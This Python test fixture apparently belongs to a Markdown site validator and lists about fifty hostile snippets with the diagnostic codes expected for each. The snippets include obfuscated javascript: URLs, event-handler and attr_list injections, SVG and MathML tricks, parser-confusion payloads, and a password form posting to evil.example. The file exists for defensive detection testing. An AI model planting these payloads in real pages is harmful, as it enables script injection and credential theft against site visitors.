"""Hostile Markdown bodies, one or more per family of issue #17 finding 1, each with what ``validate`` must say.

Each payload stands alone on the line after ``LEAD`` in a body, so its line is known. ``codes`` are the
diagnostic codes of which at least one must be reported on that line.
"""

from __future__ import annotations

from dataclasses import dataclass

SCRIPT, HANDLER, URL, FRAME, ELEMENT, ATTRIBUTE = "ESF403", "ESF404", "ESF405", "ESF406", "ESF410", "ESF411"


@dataclass(frozen=True, slots=True)
class Payload:
    """A hostile Markdown snippet: its name (a file name), family and the codes that flag it."""

    name: str
    family: str
    markdown: str
    codes: frozenset[str]


def _p(name: str, family: str, markdown: str, *codes: str) -> Payload:
    return Payload(name, family, markdown, frozenset(codes))


PAYLOADS: tuple[Payload, ...] = (
    # script, plain and disguised
    _p("script", "script", "<script>alert(1)</script>", SCRIPT),
    _p("script-case-src", "script", "<ScRiPt src=//evil.example/x.js></sCrIpT>", SCRIPT),
    _p("script-inline-span", "script", "Tekst <script>alert(1)</script> tekst.", SCRIPT),
    _p("script-in-md-in-html", "script", '<div markdown="1">\n<script>alert(1)</script>\n</div>', SCRIPT),
    # tags with '/' as the separator
    _p("svg-slash-onload", "slash-separator", "<svg/onload=alert(1)>", ELEMENT, HANDLER),
    _p("input-slash-autofocus", "slash-separator", "<input/autofocus/onfocus=alert(1)>", ELEMENT, HANDLER),
    _p("img-slash-onerror", "slash-separator", "<img/onerror=alert(1)/src=x>", HANDLER),
    _p("details-ontoggle", "handler", "<details open ontoggle=alert(1)><summary>x</summary></details>", HANDLER),
    _p("body-onload", "handler", "<body onload=alert(1)>", ELEMENT, HANDLER),
    _p("a-onmouseover", "handler", '<a href="https://example.org" onmouseover="alert(1)">x</a>', HANDLER),
    # attr_list on headings, paragraphs and links
    _p("attr-list-heading", "attr_list", '## Kop {: autofocus onfocus="alert(1)" tabindex=1 }',
       HANDLER, ATTRIBUTE),
    _p("attr-list-link-onclick", "attr_list", "[klik](https://example.org){: onclick=alert(1) }", HANDLER),
    _p("attr-list-link-href", "attr_list", '[klik](https://example.org){: href="javascript:alert(1)" }', URL),
    _p("attr-list-paragraph", "attr_list", "Een alinea.\n{: onmouseover=alert(1) style=\"position:fixed\" }",
       HANDLER, ATTRIBUTE),
    _p("attr-list-image", "attr_list", "![x](x.png){: onerror=alert(1) }", HANDLER),
    _p("attr-list-id-clobber", "attr_list", "## Kop {: #__md_scope }", ATTRIBUTE),
    # javascript: URLs, plain and obfuscated, in every kind of link
    _p("js-inline", "javascript-url", "[meer](javascript:alert(1))", URL),
    _p("js-inline-entity", "javascript-url", "[meer](&#106;avascript:alert(1))", URL),
    _p("js-inline-colon", "javascript-url", "[meer](javascript&colon;alert(1))", URL),
    _p("js-inline-hex", "javascript-url", "[meer](&#x6A;&#x61;vascript&#x3A;alert(1))", URL),
    _p("js-inline-tab", "javascript-url", "[meer](java&#9;script:alert(1))", URL),
    _p("js-raw-a-newline-raw", "javascript-url", '<a href="java\nscript:alert(1)">x</a>', URL),
    _p("js-inline-case", "javascript-url", "[meer](JaVaScRiPt:alert(1))", URL),
    _p("js-reference", "javascript-url", "[meer][x]\n\n[x]: javascript&colon;alert(1)", URL),
    _p("js-autolink", "javascript-url", "<javascript:alert(1)>", URL, ELEMENT),
    _p("js-raw-a", "javascript-url", '<a href="jav&#x09;ascript:alert(1)">x</a>', URL),
    _p("js-raw-a-newline", "javascript-url", '<a href="java&NewLine;script:alert(1)">x</a>', URL),
    _p("js-image", "javascript-url", "![x](javascript:alert(1))", URL),
    _p("js-md-in-html", "javascript-url", '<div markdown="1">\n[meer](javascript:alert(1))\n</div>', URL),
    _p("vbscript", "other-scheme", "[meer](vbscript:msgbox(1))", URL),
    _p("data-url-link", "other-scheme", "[meer](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", URL),
    _p("data-url-image", "other-scheme", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", URL),
    # formaction and forms
    _p("formaction", "form", '<button formaction="javascript:alert(1)">x</button>', ELEMENT, URL),
    _p("form-password", "form", '<form action="https://evil.example/steal"><input type=password name=pw>'
       "<input type=submit></form>", ELEMENT),
    # SVG and MathML
    _p("svg-animate", "svg", '<svg><a><animate attributeName=href values="javascript:alert(1)"/>'
       "<text y=20>x</text></a></svg>", ELEMENT),
    _p("svg-set", "svg", '<svg><set attributeName=onmouseover to=alert(1) /></svg>', ELEMENT),
    _p("math-href", "math", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>', ELEMENT),
    _p("math-maction", "math", '<math href="javascript:alert(1)"><mi>x</mi></math>', ELEMENT),
    # harmful without script
    _p("meta-refresh", "meta", '<meta http-equiv="refresh" content="0;url=https://evil.example">', ELEMENT),
    _p("base-href", "base", '<base href="https://evil.example/">', ELEMENT),
    _p("style-element", "style", "<style>body{display:none}</style>", ELEMENT),
    _p("style-attribute", "style", '<div style="position:fixed;inset:0;background:red">x</div>', ATTRIBUTE),
    _p("link-stylesheet", "style", '<link rel="stylesheet" href="https://evil.example/x.css">', ELEMENT),
    # frames and embedded objects
    _p("iframe", "frame", '<iframe src="https://evil.example"></iframe>', FRAME),
    _p("iframe-srcdoc", "frame", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', FRAME),
    _p("object-data", "frame", '<object data="javascript:alert(1)"></object>', FRAME),
    _p("embed", "frame", '<embed src="https://evil.example/x.swf">', FRAME),
    # containers that hide markup from a naive scan
    _p("template", "container", "<template><img src=x onerror=alert(1)></template>", ELEMENT),
    _p("noscript", "container", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
       ELEMENT),
    _p("comment-trick", "comment", "<!--><img src=x onerror=alert(1)>-->", HANDLER),
    _p("cdata-trick", "comment", "<![CDATA[><img src=x onerror=alert(1)>]]>", HANDLER),
    # other elements and attributes content has no use for
    _p("textarea-autofocus", "other", "<textarea autofocus onfocus=alert(1)></textarea>", ELEMENT, HANDLER),
    _p("a-target", "other", '<a href="https://example.org" target="_blank" ping="https://evil.example">x</a>',
       ATTRIBUTE),
    _p("marquee", "other", "<marquee>x</marquee>", ELEMENT),
    _p("dialog-open", "other", "<dialog open>Je sessie is verlopen</dialog>", ELEMENT),
)

HARMLESS: tuple[str, ...] = (
    "&lt;script&gt;alert(1)&lt;/script&gt; en &#60;img src=x onerror=alert(1)&#62; blijven tekst.",
    "`<script>alert(1)</script>` in code",
    "Code:\n\n    <iframe src=\"javascript:alert(1)\"></iframe>",
)
"""Bodies that look hostile in the source but render as text: nothing to report, nothing active in the site."""
